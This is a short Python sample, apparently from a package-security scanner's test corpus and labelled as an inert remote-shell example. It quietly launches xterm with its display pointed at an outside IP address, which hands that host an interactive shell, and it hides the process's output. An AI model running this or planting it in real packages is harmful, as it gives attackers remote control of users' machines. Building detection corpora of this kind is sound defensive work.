# pkgguard corpus 826 (remote-shell), modelled on [taxonomy]; inert, never run.
import shutil
import subprocess

if shutil.which("xterm"):
    subprocess.Popen(["xterm", "-display", "100.64.55.3:1"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
